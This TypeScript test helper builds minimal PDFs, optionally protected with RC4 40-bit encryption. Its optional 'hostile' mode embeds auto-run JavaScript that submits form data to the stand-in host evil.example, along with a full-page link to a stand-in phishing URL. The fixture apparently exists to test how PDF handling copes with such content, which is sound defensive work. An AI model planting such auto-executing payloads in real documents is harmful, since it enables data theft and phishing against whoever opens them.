import { createHash } from 'node:crypto';

interface PdfOptions {
  /** The words of each page, in Latin letters. */
  pages: readonly string[];
  /** Scripts, links and forms that are to run when it is opened. */
  hostile?: boolean;
  password?: string;
}

/** A PDF made by hand: what it holds is what the test says and nothing else. */
export function makePdf({ pages, hostile = false, password }: PdfOptions): Buffer {
  const lock = password === undefined ? null : lockWith(password);
  const first = 5;
  const objects: (Buffer | string)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${hostile ? `/OpenAction ${SCRIPT} /AA << /WC ${SCRIPT} >> /Names << /JavaScript << /Names [(run) ${SCRIPT}] >> >>` : ''} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, i) => `${first + i * 2} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    LINK,
  ];
  for (const [i, words] of pages.entries()) {
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents ${first + i * 2 + 1} 0 R ${
        hostile ? `/Annots [4 0 R] /AA << /O ${SCRIPT} >>` : ''
      } >>`,
    );
    const drawn = Buffer.from(`BT /F 32 Tf 72 720 Td (${words}) Tj ET`, 'latin1');
    const stream = lock ? lock.encrypt(first + i * 2 + 1, drawn) : drawn;
    objects.push(
      Buffer.concat([
        Buffer.from(`<< /Length ${stream.length} >>\nstream\n`),
        stream,
        Buffer.from('\nendstream'),
      ]),
    );
  }
  return write(objects, lock?.trailer ?? '');
}

const SCRIPT =
  '<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("https://evil.example/"\\);) >>';
const LINK =
  '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/phish) >> >>';

function write(objects: readonly (Buffer | string)[], trailer: string): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const places: number[] = [];
  let size = parts[0]?.length ?? 0;
  const add = (part: Buffer): void => {
    parts.push(part);
    size += part.length;
  };
  for (const [i, object] of objects.entries()) {
    places.push(size);
    add(Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  }
  const start = size;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  add(
    Buffer.from(
      `xref\n0 ${count}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const PAD = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
const md5 = (...parts: Buffer[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest();

/** The oldest way of protecting a PDF (RC4, 40 bit), as the standard describes it: enough to ask for a password. */
function lockWith(password: string) {
  const user = Buffer.concat([Buffer.from(password, 'latin1'), PAD]).subarray(0, 32);
  const id = md5(Buffer.from('id'));
  const owner = rc4(md5(user).subarray(0, 5), user);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-4);
  const key = md5(user, owner, permissions, id).subarray(0, 5);
  const hex = (bytes: Buffer): string => `<${bytes.toString('hex')}>`;
  const check = hex(rc4(key, PAD));
  return {
    trailer: `/ID [${hex(id)} ${hex(id)}] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${check} /P -4 >>`,
    encrypt(object: number, bytes: Buffer): Buffer {
      const place = Buffer.from([object & 255, object >> 8, 0, 0, 0]);
      return rc4(md5(key, place).subarray(0, 10), bytes);
    },
  };
}

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const box = Uint8Array.from({ length: 256 }, (_, i) => i);
  const swap = (a: number, b: number): void => {
    [box[a], box[b]] = [box[b] ?? 0, box[a] ?? 0];
  };
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + (box[i] ?? 0) + (key[i % key.length] ?? 0)) & 255;
    swap(i, j);
  }
  let [i, j] = [0, 0];
  return bytes.map((byte) => {
    i = (i + 1) & 255;
    j = (j + (box[i] ?? 0)) & 255;
    swap(i, j);
    return byte ^ (box[((box[i] ?? 0) + (box[j] ?? 0)) & 255] ?? 0);
  }) as Buffer;
}
